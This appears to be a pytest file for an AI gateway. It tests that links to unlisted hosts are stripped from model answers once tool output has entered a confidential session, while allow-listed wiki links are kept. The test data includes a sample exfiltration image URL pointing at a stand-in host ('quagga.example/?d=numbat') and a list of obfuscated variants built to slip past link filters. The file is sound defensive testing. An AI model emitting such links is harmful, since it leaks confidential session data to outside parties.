"""Where outsiders have spoken in a session that holds what is not for them, no answer links to a place that nobody has listed."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any, NamedTuple

import httpx
import pytest
from governed import PRICE, deployment, rule_files
from running import Running, running
from stub_provider import StubProvider, serving

AWAY = "https://quagga.example/?d=numbat"
LISTED = "https://wiki.example.org/page"
WORDS = f"Here ![it]({AWAY}) is, and [more]({LISTED}) of it."
SCREENED = f"Here ![it]([link removed]) is, and [more]({LISTED}) of it."
SETS = """sets:
  - id: standard
    owner: tests@example.org
    business_purpose: tests
    approver: tests@example.org
    review_by: 2099-01-01
    tools: [calculator]
    allowed_destinations: ["https://wiki.example.org/"]
"""
APPS = """apps:
  - {id: one, owner: tests@example.org, clearance: restricted, ceiling: standard, purposes: [general]}
"""
PATHS = {"chat": "/v1/chat/completions", "responses": "/v1/responses", "messages": "/v1/messages"}
STREAMED = pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
WIRES = pytest.mark.parametrize("wire", PATHS)


class Service(NamedTuple):
    running: Running
    stub: StubProvider
    key: str

    def ask(self, wire: str, stream: bool, *, outside: bool, label: str, words: str = WORDS) -> str:
        """The words of the answer to a task that has, or has not, been to the outside."""
        self.stub.script("m", "echo:3")
        self.stub.script("a", "echo:3")
        headers = {"authorization": f"Bearer {self.key}", "x-router-label": label, "anthropic-version": "2023-06-01"}
        body = {"model": "a" if wire == "messages" else "m", "stream": stream, **asked(wire, outside, words)}
        answer = httpx.post(self.running.base_url + PATHS[wire], json=body, headers=headers, timeout=30)
        assert answer.status_code == 200, answer.text
        if not stream:
            return whole(wire, answer.json())
        assert AWAY not in answer.text or not (outside and label == "confidential")
        return pieces(wire, answer.text)


def asked(wire: str, outside: bool, told: str) -> dict[str, Any]:
    """A task with or without what a tool brought, whose last words the provider repeats."""
    words = {"role": "user", "content": told}
    if wire == "responses":
        brought = [
            {"type": "function_call", "call_id": "call_1", "name": "calculator", "arguments": "{}"},
            {"type": "function_call_output", "call_id": "call_1", "output": "42"},
        ]
        return {"input": [*(brought if outside else []), {"type": "message", **words}]}
    if wire == "messages":
        earlier: list[dict[str, Any]] = [
            {"role": "user", "content": "Hello"},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "calculator", "input": {}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": "42"}]},
            {"role": "assistant", "content": "Well."},
        ]
        return {"max_tokens": 200, "messages": [*(earlier if outside else []), words]}
    call = {"id": "call_1", "type": "function", "function": {"name": "calculator", "arguments": "{}"}}
    results = [
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": "42"},
    ]
    return {"messages": [*(results if outside else []), words]}


def whole(wire: str, body: dict[str, Any]) -> str:
    if wire == "responses":
        return str(body["output"][0]["content"][0]["text"])
    return str(body["content"][0]["text"] if wire == "messages" else body["choices"][0]["message"]["content"])


def pieces(wire: str, text: str) -> str:
    events = [json.loads(line[6:]) for line in text.splitlines() if line.startswith("data: {")]
    if wire == "responses":
        told = "".join(event["delta"] for event in events if event["type"] == "response.output_text.delta")
        assert events[-1]["response"]["output"][0]["content"][0]["text"] == told
        assert [event["sequence_number"] for event in events] == list(range(len(events)))
        return told
    if wire == "messages":
        return "".join(event["delta"]["text"] for event in events if event["type"] == "content_block_delta")
    return "".join(choice["delta"].get("content") or "" for event in events for choice in event["choices"])


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with serving() as stub:
        anthropic = (
            f"  - {{id: a, provider: anthropic_compatible, base_url: '{stub.url}', model: a, tier: fast, clearance: restricted, "
            f"price: {PRICE}}}\n"
        )
        rules = rule_files([deployment("m", stub.url, clearance="restricted"), anthropic], then="wish: honour")
        rules |= {"entitlements.yaml": SETS, "apps.yaml": APPS}
        with running(tmp_path_factory.mktemp("screened") / "data", rules=rules) as started:
            yield Service(started, stub, started.key("one", "tests@example.org"))


@STREAMED
@WIRES
def test_links_that_lead_away_are_taken_out_of_the_words_and_listed_ones_stay(service: Service, wire: str, stream: bool) -> None:
    assert service.ask(wire, stream, outside=True, label="confidential") == SCREENED


ODD = [
    '<img src="/\t/quagga.example/?d=numbat">',
    '<img src="h\nttps:\n/\n/quagga.example/?d=numbat">',
    '<img src="\x01//quagga.example/?d=numbat">',
    '<img src="/&Tab;/quagga.example/?d=numbat">',
    "![x](</\t/quagga.example/?d=numbat>)",
    "[x](mailto:quagga@example.com?body=numbat)",
    "quagga.example/?d=numbat",
    "https://wiki.example.org/../numbat",
]


@STREAMED
@WIRES
def test_links_that_only_a_browser_reads_as_such_are_taken_out_too(service: Service, wire: str, stream: bool) -> None:
    told = service.ask(wire, stream, outside=True, label="confidential", words="Here: " + " and ".join(ODD) + " ok")
    assert told.count("[link removed]") == len(ODD)
    assert "numbat" not in told
    assert told.endswith(" ok")


@STREAMED
@WIRES
def test_nothing_is_taken_out_where_nobody_from_outside_has_spoken(service: Service, wire: str, stream: bool) -> None:
    assert service.ask(wire, stream, outside=False, label="confidential") == WORDS
